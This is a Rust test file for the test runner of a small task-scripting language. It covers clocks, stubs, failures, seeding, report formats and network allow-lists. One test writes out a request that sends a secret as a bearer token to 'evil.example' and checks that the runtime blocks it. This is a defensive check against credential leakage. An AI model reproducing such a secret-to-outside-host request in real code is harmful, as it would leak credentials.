//! Tests of tests: small projects, and what becomes of their `test` blocks.

use std::sync::{Arc, OnceLock};

use super::*;
use crate::check::project::{ProjectFile, SecretSetting};
use crate::diagnostics::Severity;
use crate::diagnostics::render::Style;
use crate::host::sim;
use crate::source::Sources;

fn library() -> &'static Library {
    static LIBRARY: OnceLock<Library> = OnceLock::new();
    LIBRARY.get_or_init(|| Library::new(crate::stdlib::declarations()))
}

/// Runs the tests of `main.task` and of those modules, and gives the reports with the sources.
fn reports_of(files: &[(&str, &str)], seed: u64, filter: Option<&str>) -> (Vec<Report>, Sources) {
    let (mut project, mut sources) = (Project::default(), Sources::default());
    project.settings.secrets =
        vec![SecretSetting { name: "KEY".into(), hosts: vec!["api.example.com".into()] }];
    for (module, text) in files {
        let path = format!("{module}.task");
        project.add(|id| ProjectFile::parse(module, &path, text, id));
        sources.add(&path, text);
    }
    let checked = crate::check::check(&project, library());
    let errors: Vec<_> =
        checked.diagnostics.iter().filter(|it| it.severity == Severity::Error).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    let ids: Vec<_> = project.files().iter().map(|it| it.source.id).collect();
    let suites = suites(&project, &checked, library(), &ids).unwrap();
    let options = Options {
        seed,
        filter: filter.map(|it| Regex::new(it).unwrap()),
        threads: 4,
        clock: Arc::new(sim::Clock::new(0)),
    };
    let mut reports = Vec::new();
    run(&project, &suites, &options, |it| reports.push(it));
    (reports, sources)
}

/// What became of the tests of a task, a line each: `ok`, or what is wrong.
fn outcomes(text: &str) -> Vec<String> {
    let (reports, sources) = reports_of(&[("main", text)], 0, None);
    let line = |it: &Report| match it.failure {
        None => "ok".to_owned(),
        Some(_) => render(it, &sources, Face::Concise).trim_end().to_owned(),
    };
    reports.iter().map(line).collect()
}

/// Runs one test with these statements and asserts that it passes.
#[track_caller]
fn passes(task: &str, statements: &str) {
    let text = format!("{task}\ntest \"t\" {{\n{statements}\n}}");
    assert_eq!(outcomes(&text), ["ok"], "{text}");
}

/// Runs one test with these statements and asserts how it fails, place and code aside.
#[track_caller]
fn fails(task: &str, statements: &str, message: &str) {
    let text = format!("{task}\ntest \"t\" {{\n{statements}\n}}");
    let found = outcomes(&text).remove(0);
    let found = found.split_once("]: t: ").map_or(found.as_str(), |(_, message)| message);
    assert_eq!(found, message, "{text}");
}

const ORDERS: &str = "table Order {
  id: int key auto
  status: \"open\" | \"late\" = \"open\"
  placed_at: time = now()
}
update o in Order where o.placed_at < now() - 30d set { status: \"late\" }";

#[test]
fn each_test_begins_with_nothing_and_at_the_same_time() {
    let test = |name: &str| {
        format!(
            "test \"{name}\" {{
  expect Order.count() == 0 and mail.sent().is_empty() and not files.exists(\"a\")
  expect now() == @2026-01-01T00:00:00Z
  files.write(\"a\", \"1\")
  mail.send(to: \"a@b.c\", subject: \"s\", text: \"t\")
  Order.insert({{ placed_at: @2025-11-01T00:00:00Z }})
  run()
  expect Order.get(1)?.status == \"late\"
}}"
        )
    };
    let text = format!("{ORDERS}\n{}\n{}\n{}", test("a"), test("b"), test("c"));
    assert_eq!(outcomes(&text), ["ok"; 3]);
}

#[test]
fn the_clock_stands_where_it_was_put_and_moves_with_sleep() {
    passes(
        "print(1)",
        "at @2026-03-29T00:30:00Z\nlet a = now()\nsleep(3d)\nexpect now() - a == 3d",
    );
    passes(
        "keep seen: [time] = []\nseen.push(run.due)\nprint(seen)",
        "at @2026-02-01T00:00:00Z\nrun()\nat @2026-02-02T00:00:00Z\nrun()\nexpect seen == [@2026-02-01T00:00:00Z, @2026-02-02T00:00:00Z]",
    );
}

#[test]
fn a_run_knows_that_it_is_tested() {
    passes(
        "keep was: text = \"\"\nkeep last: time? = null\nwas = \"{run.trigger} {run.task} {run.attempt} {run.late}\"\nlast = run.previous\nprint(1)",
        "run()\nexpect was == \"test main 1 false\" and last == null\nrun()\nexpect last == @2026-01-01T00:00:00Z",
    );
}

#[test]
fn kept_variables_are_set_and_seen() {
    let task = "keep cursor: int = 5\nkeep since: time = now() - 1d\ncursor += 1\nsince = now()\nprint(cursor)";
    passes(
        task,
        "expect cursor == 5\nrun()\nexpect cursor == 6\ncursor = 40\nrun()\nexpect cursor == 41",
    );
    passes(task, "run()\nrun()\nexpect cursor == 7 and since == now()");
    passes(
        "keep n: int = 0\nn += 1\nif n == 2 { fail \"two\" }\nprint(n)",
        "run()\ntry { run() } catch e { expect e.message == \"two\" }\nexpect n == 1",
    );
}

#[test]
fn both_sides_and_the_variables_are_shown() {
    fails(
        "print(1)",
        "let xs = [1, 2]\nexpect xs.sum() == 4",
        "expected `xs.sum() == 4`; `xs.sum()` is 3; `xs` is [1, 2]",
    );
    fails(
        "print(1)",
        "let a = \"x\"\nlet b = \"y\"\nexpect a == b",
        "expected `a == b`; `a` is \"x\"; `b` is \"y\"",
    );
    fails(
        "print(1)",
        "let xs = [1]\nexpect xs.is_empty() or false",
        "expected `xs.is_empty() or false`; `xs` is [1]",
    );
    fails("print(1)", "expect not true", "expected `not true`; this is false");
    fails("print(1)", "let n = 1.5\nexpect n > 1 and n > 2", "expected `n > 2`; `n` is 1.5");
    fails("print(1)", "let x: int? = null\nexpect x != null", "expected `x != null`; `x` is null");
}

#[test]
fn what_is_compared_is_computed_once() {
    passes("print(1)", "var xs = [1, 2, 3]\nexpect xs.pop() == 3\nexpect xs == [1, 2]");
    fails(
        "print(1)",
        "var xs = [1, 2, 3]\nexpect xs.pop() == 2",
        "expected `xs.pop() == 2`; `xs.pop()` is 3; `xs` is [1, 2, 3]",
    );
    let nan = "let n = (-1.0).to_float().sqrt()\n";
    passes("print(1)", &format!("{nan}expect not (n > n) and not (n <= n) and n != n"));
    fails("print(1)", &format!("{nan}expect n == n"), "expected `n == n`; `n` is NaN; `n` is NaN");
}

#[test]
fn nothing_that_breaks_a_test_can_be_caught() {
    fails(
        "print(1)",
        "try { expect 1 == 2 } catch e { print(e) }",
        "expected `1 == 2`; this is false",
    );
    let task = "let x = try http.get(\"https://a.example/b?c=1\").text else \"none\"\nprint(x)";
    fails(
        task,
        "run()",
        "GET `https://a.example/b?c=1` is not stubbed; a test reaches no network; say in the test what comes back: `stub http \"https://a.example/b\" => { status: 200, json: {} }`",
    );
}

#[test]
fn stubs_answer_by_method_and_pattern_the_latest_first_and_one_after_the_other() {
    passes(
        "print(1)",
        "stub http \"https://a.example/*\" => { json: { n: 1 } }
stub http \"https://a.example/two\" => { text: \"2\", headers: [\"x-a\": \"b\"] }
stub http.post \"https://a.example/two\" => { status: 201 }
stub http \"https://b.example/\" => [{ status: 503 }, { text: \"well\" }]
expect http.get(\"https://a.example/one?x=y\").json.n as int == 1
expect http.get(\"https://a.example/two\").headers[\"x-a\"] == \"b\"
expect http.post(\"https://a.example/two\", json: 1).status == 201
expect http.get(\"https://b.example/\", retry: 1).text == \"well\"",
    );
}

#[test]
fn stubs_can_fail_and_take_their_time() {
    passes(
        "print(1)",
        "stub http \"https://a.example/\" => { error: \"connect\" }
stub http \"https://b.example/\" => { error: \"timeout\" }
stub http \"https://c.example/\" => { delay: 40s }
for url, code in [\"https://a.example/\": \"http-connect\", \"https://b.example/\": \"timeout\", \"https://c.example/\": \"timeout\"] {
  let got = try http.get(url).text else e => e.code
  expect got == code
}",
    );
    fails(
        "print(1)",
        "stub http \"*\" => { status: 7 }",
        "no server answers with status 7; it is from 100 to 599; fails here with `argument`",
    );
}

#[test]
fn a_run_fails_as_it_would_and_says_where() {
    let task = "fn half(n: int) -> int { return n div 0 }\nlet x = half(3)\nprint(x)";
    passes(
        task,
        "let code = try { run()  \"none\" } else e => e.code\nexpect code == \"division-by-zero\"",
    );
    let (reports, sources) =
        reports_of(&[("main", &format!("{task}\ntest \"t\" {{\n  run()\n}}"))], 0, None);
    let style = Style { color: false, unicode: true, width: 100 };
    let shown = render(&reports[0], &sources, Face::Pretty(style));
    for part in ["main.task:1:33", "fails here with `division-by-zero`", "called here", "run()"] {
        assert!(shown.contains(part), "{part} in\n{shown}");
    }
}

#[test]
fn a_failing_run_does_what_is_to_be_done_on_failure() {
    passes(
        "on failure { mail.send(to: \"a@b.c\", subject: error.message, text: \"x\") }\nfail \"no\"",
        "let got = try { run()  \"\" } else e => e.message\nexpect got == \"no\"\nexpect mail.sent().first()?.subject == \"no\"",
    );
}

#[test]
fn a_run_keeps_to_its_timeout_on_the_clock_of_the_test() {
    let task =
        "timeout 30s\nlet a = http.get(\"https://a.example/\", timeout: 5m).status\nprint(a)";
    let run = "let got = try { run()  \"well\" } else e => e.code\n";
    passes(task, &format!("stub http \"*\" => {{ delay: 20s }}\n{run}expect got == \"well\""));
    passes(task, &format!("stub http \"*\" => {{ delay: 40s }}\n{run}expect got == \"timeout\""));
    passes("timeout 30s\nsleep(1d)\nprint(1)", "run()");
}

#[test]
fn secrets_stand_for_themselves_and_stay_bound() {
    passes(
        "let a = http.get(\"https://api.example.com/\", auth: http.bearer(secret.KEY)).status\nprint(a)",
        "stub http \"https://api.example.com/\" => { status: 200 }\nrun()",
    );
    fails(
        "print(1)",
        "stub http \"*\" => {}\nlet a = http.get(\"https://evil.example\", auth: http.bearer(secret.KEY)).status\nexpect a == 200",
        "this secret may go to api.example.com only, and not to evil.example; fails here with `secret`",
    );
}

#[test]
fn randomness_depends_on_the_seed_and_the_test_alone() {
    let files = [(
        "main",
        "test \"a\" { print(random.int(1, 1000000))  fail \"x\" }\ntest \"b\" { print(random.int(1, 1000000))  fail \"x\" }",
    )];
    let said = |seed, filter| {
        let (reports, _) = reports_of(&files, seed, filter);
        reports.into_iter().map(|it| it.said.concat()).collect::<Vec<_>>()
    };
    let all = said(0, None);
    assert_eq!(said(0, None), all);
    assert_eq!(said(0, Some(": b$")), all[1..]);
    assert_ne!(all[0], all[1]);
    assert_ne!(said(1, None), all);
}

#[test]
fn reports_come_in_the_order_of_the_text() {
    let tests: Vec<String> =
        (0..40).map(|n| format!("test \"{n}\" {{ expect {n} == 0 }}\n")).collect();
    let tests = tests.concat();
    let (reports, _) = reports_of(&[("a", &tests), ("b", &tests)], 0, None);
    let names: Vec<_> = reports.iter().map(|it| (it.path.clone(), it.test.clone())).collect();
    let expected: Vec<_> = ["a.task", "b.task"]
        .iter()
        .flat_map(|path| (0..40).map(move |n| ((*path).to_owned(), n.to_string())))
        .collect();
    assert_eq!(names, expected);
    assert_eq!(reports.iter().filter(|it| it.failure.is_none()).count(), 2);
}

#[test]
fn every_face_tells_of_a_failure() {
    let text =
        "test \"a & b\" { expect 1 == 1 }\ntest \"c\" {\n  print(\"<so>\")\n  expect [1] == [2]\n}";
    let (reports, sources) = reports_of(&[("main", text)], 0, None);
    let shown = |face: Face| -> String {
        let each: String = reports.iter().map(|it| render(it, &sources, face)).collect();
        format!("{}{each}{}", face.opening(), face.closing())
    };
    assert_eq!(
        shown(Face::Concise),
        "main.task:4:10: error[unmet-expectation]: c: expected `[1] == [2]`; this is false\n"
    );
    assert_eq!(
        shown(Face::Github),
        "::error file=main.task,line=4,col=10,endLine=4,endColumn=20,title=unmet-expectation::c: expected `[1] == [2]`; this is false%0Athis is false\n"
    );
    let json: Vec<serde_json::Value> =
        shown(Face::Json).lines().map(|it| serde_json::from_str(it).unwrap()).collect();
    assert_eq!(json[0]["outcome"], "passed");
    assert_eq!(
        (&json[1]["outcome"], &json[1]["line"], &json[1]["output"][0]),
        (&"failed".into(), &4.into(), &"<so>".into())
    );
    let junit = shown(Face::Junit);
    for part in
        ["name=\"a &amp; b\"", "<failure type=\"unmet-expectation\"", "&lt;so&gt;", "</testsuites>"]
    {
        assert!(junit.contains(part), "{part} in {junit}");
    }
    let style = Style { color: false, unicode: true, width: 100 };
    let pretty = shown(Face::Pretty(style));
    assert!(pretty.starts_with("ok   main.task: a & b\nFAIL main.task: c\n"), "{pretty}");
    assert!(pretty.contains("It said:\n  <so>\n"), "{pretty}");
}

#[test]
fn modules_are_tested_without_a_body() {
    let files = [
        (
            "shop",
            "fn gross(n: decimal) -> decimal { return (n * 1.19).round(2) }\ntest \"tax\" { expect gross(10) == 11.90 }",
        ),
        ("main", "use shop\nprint(gross(1))\ntest \"uses it\" { expect gross(0) == 0 }"),
    ];
    let (reports, _) = reports_of(&files, 0, None);
    assert_eq!(reports.iter().map(|it| it.failure.is_none()).collect::<Vec<_>>(), [true, true]);
}

#[test]
fn a_run_in_a_test_may_go_where_a_run_may_go() {
    let task = "let n = 2\nhttp.get(\"https://h{n}.example/x\")\nmail.send(to: \"a@{n}.example\", subject: \"s\", text: \"t\")";
    // What the test itself names does not count, and it may go there itself.
    let test = "test \"t\" {\nstub http \"https://h2.example/x\" => { status: 200 }\n\
                http.get(\"https://h2.example/x\")\nmail.send(to: \"a@2.example\", subject: \"s\", text: \"t\")\nrun()\n}";
    let outcome = |headers: &str| outcomes(&format!("{headers}{task}\n{test}")).remove(0);
    let refused = outcome("");
    assert!(
        refused.contains(
            "the task may not call `h2.example`, which was computed at run time; a header lets it: `allow http \"h2.example\"`"
        ),
        "{refused}"
    );
    let refused = outcome("allow http \"*.example\"\n");
    assert!(refused.contains("may not write to `a@2.example`"), "{refused}");
    assert_eq!(outcome("allow http \"*.example\"\nallow mail \"*@2.example\"\n"), "ok");
}

#[test]
fn a_run_in_a_test_may_write_to_addresses_that_it_has_read() {
    let task = "for c in from c in C { mail.send(to: c.email, subject: \"s\", text: \"t\") }\ntable C { id: int key auto  email: text }";
    passes(task, "C.insert({ email: \"a@b.example\" })\nrun()\nexpect mail.sent().count() == 1");
}
